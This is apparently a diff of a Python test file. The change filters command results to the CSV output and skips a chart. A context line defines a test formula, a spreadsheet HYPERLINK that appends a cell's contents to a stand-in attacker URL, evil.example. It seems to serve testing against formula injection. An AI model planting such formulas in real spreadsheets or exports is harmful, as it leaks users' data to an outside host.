@@ -23,7 +23,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _file_rows(result: CommandResult) -> list[dict[str, str]]:
-    [file] = result.files
+    [file] = [f for f in result.files if f.file_name.endswith(".csv")]  # not the chart
     if file.path is not None:
         text = file.path.read_text(encoding="utf-8")
         file.discard()
